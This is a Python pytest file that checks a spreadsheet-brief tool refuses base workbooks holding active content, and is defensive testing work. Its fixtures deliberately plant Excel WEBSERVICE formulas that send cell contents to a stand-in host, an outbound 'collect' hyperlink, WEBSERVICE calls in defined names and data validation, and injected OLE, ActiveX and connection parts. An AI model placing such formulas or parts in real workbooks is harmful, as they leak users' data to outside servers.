"""A template's base workbook is untrusted: refused with the cell or part that would act, else styles and text only."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from typing import Callable

import openpyxl
import pytest
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from scenmatrix.brief.build import build_brief
from scenmatrix.errors import TemplateError
from scenmatrix.review.importer import plan_import
from scenmatrix.store.loader import load
from conftest import SMALL

TEMPLATE = "description: House style\nbase: house.xlsx\nsheets:\n  - {kind: matrix, title: Matrix}\n" \
           "  - {kind: table, table: impacts, title: Impacts}\n"


@pytest.fixture()
def study(tmp_path: Path) -> Path:
    path = tmp_path / "small.yaml"
    path.write_text(SMALL, encoding="utf-8")
    return path


def house(tmp_path: Path, change: Callable[[openpyxl.Workbook], None] = lambda wb: None) -> Path:
    """A template whose base workbook has a styled House sheet, changed by `change`."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "House"
    ws["A1"] = "Ministry of Examples"
    ws["A1"].font = openpyxl.styles.Font(bold=True, size=16)
    ws.column_dimensions["A"].width = 40
    change(wb)
    wb.save(tmp_path / "house.xlsx")
    template = tmp_path / "house.yaml"
    template.write_text(TEMPLATE, encoding="utf-8")
    return template


def refused(study: Path, template: Path, out: Path) -> str:
    with pytest.raises(TemplateError) as caught:
        build_brief(load(study), template, out)
    assert not out.exists() and [p for p in out.parent.iterdir() if p.name.endswith(".tmp")] == []
    return str(caught.value)


def set_cell(coordinate: str, value: str) -> Callable[[openpyxl.Workbook], None]:
    return lambda wb: wb["House"].__setitem__(coordinate, value)


def link_out(wb: openpyxl.Workbook) -> None:
    wb["House"]["B3"] = "Intranet"
    wb["House"]["B3"].hyperlink = "https://example.org/collect?x="


def name_out(wb: openpyxl.Workbook) -> None:
    wb.defined_names["Leak"] = DefinedName("Leak", attr_text="WEBSERVICE(\"https://example.org/\")")


def sheet_name_out(wb: openpyxl.Workbook) -> None:
    wb["House"].defined_names["Other"] = DefinedName("Other", attr_text="[1]Sheet1!$A$1")


def validation_call(wb: openpyxl.Workbook) -> None:
    validation = DataValidation(type="custom", formula1='ISNUMBER(WEBSERVICE("https://example.org/"))')
    validation.add("C1:C9")
    wb["House"].add_data_validation(validation)


def writes_a_brief_sheet(wb: openpyxl.Workbook) -> None:
    wb.create_sheet("Matrix")["A1"] = "stale"


@pytest.mark.parametrize("change, expected", [
    (set_cell("B2", '=WEBSERVICE("https://example.org/?"&A1)'),
     r"house\.xlsx:2:2: House!B2: holds a formula \(=WEBSERVICE\(.*\); the base workbook of '.*house\.yaml' gives "
     r"a brief styles and text, nothing active — remove it from the base workbook and save it again"),
    (set_cell("D4", "=1+1"), r"house\.xlsx:4:4: House!D4: holds a formula \(=1\+1\)"),
    (link_out, r"house\.xlsx:3:2: House!B3: links out of the workbook \(https://example\.org/collect\?x=\)"),
    (name_out, r"house\.xlsx:1:1: defined name 'Leak': refers to 'WEBSERVICE.*', not to cells of this workbook"),
    (sheet_name_out, r"house\.xlsx:1:1: House: defined name 'Other': refers to '\[1\]Sheet1!\$A\$1'"),
    (validation_call, r"house\.xlsx:1:1: House: a data validation: calls a function \(ISNUMBER\(WEBSERVICE"),
    (writes_a_brief_sheet, r"house\.xlsx:1:1: sheet 'Matrix': has cells, and the brief writes a sheet of that title"),
], ids=["webservice", "formula", "hyperlink", "defined-name", "sheet-defined-name", "validation", "brief-sheet"])
def test_anything_active_in_the_base_is_refused_with_its_cell(study: Path, tmp_path: Path, change, expected) -> None:
    message = refused(study, house(tmp_path, change), tmp_path / "b.xlsx")
    assert re.search(expected, message), message
    assert message.count("\n") == 0, "one problem, one line"


def with_part(base: Path, name: str, data: bytes) -> None:
    """Add a part to a saved workbook, as another application would have written it."""
    with zipfile.ZipFile(base, "a") as archive:
        archive.writestr(name, data)


@pytest.mark.parametrize("part, what", [("xl/connections.xml", "a data connection"),
                                        ("xl/embeddings/oleObject1.bin", "an embedded object"),
                                        ("xl/activeX/activeX1.xml", "an ActiveX control"),
                                        ("xl/pivotCache/pivotCacheDefinition1.xml", "a pivot cache")])
def test_parts_that_act_on_opening_are_refused(study: Path, tmp_path: Path, part: str, what: str) -> None:
    template = house(tmp_path)
    with_part(tmp_path / "house.xlsx", part, b"<x/>")
    message = refused(study, template, tmp_path / "b.xlsx")
    assert f"house.xlsx:1:1: the workbook holds {what} ({part})" in message
    assert "(the base workbook of '" in message


def test_the_base_goes_through_the_workbook_guard(study: Path, tmp_path: Path) -> None:
    template = house(tmp_path)
    (tmp_path / "house.xlsx").write_text("name,kind\nRU,state\n", encoding="utf-8")
    message = refused(study, template, tmp_path / "b.xlsx")
    assert "house.xlsx:1:1: not an Excel workbook: the file is text" in message


def test_a_fifo_as_base_is_refused_at_once(study: Path, tmp_path: Path) -> None:
    template = house(tmp_path)
    (tmp_path / "house.xlsx").unlink()
    import os
    os.mkfifo(tmp_path / "house.xlsx")  # opening it for reading would wait for a writer
    message = refused(study, template, tmp_path / "b.xlsx")
    assert "house.xlsx:1:1: is a FIFO (named pipe), not a regular file" in message


def test_a_clean_base_gives_its_style_and_the_brief_imports_back(study: Path, tmp_path: Path) -> None:
    out = build_brief(load(study), house(tmp_path), tmp_path / "b.xlsx")
    wb = openpyxl.load_workbook(out)
    assert wb["House"]["A1"].value == "Ministry of Examples" and wb["House"]["A1"].font.b
    assert wb["House"].column_dimensions["A"].width == 40
    assert plan_import(out, study).empty
    impacts = wb["Impacts"]
    headers = [c.value for c in impacts[3]]
    impacts.cell(4, headers.index("Effect") + 1).value = -1  # a reviewer's edit of the first impact
    wb.save(out)
    assert [(c.field, c.new) for c in plan_import(out, study).changes] == [("effect", -1)]


def test_a_bases_empty_cross_impact_sheet_goes_with_a_study_without_a_model(study: Path, tmp_path: Path) -> None:
    template = house(tmp_path, lambda wb: wb.create_sheet("Cross-impact"))
    template.write_text(TEMPLATE + "  - {kind: cib, title: Cross-impact}\n", encoding="utf-8")
    wb = openpyxl.load_workbook(build_brief(load(study), template, tmp_path / "b.xlsx"))
    assert wb.sheetnames == ["House", "Matrix", "Impacts", "_scenmatrix"]
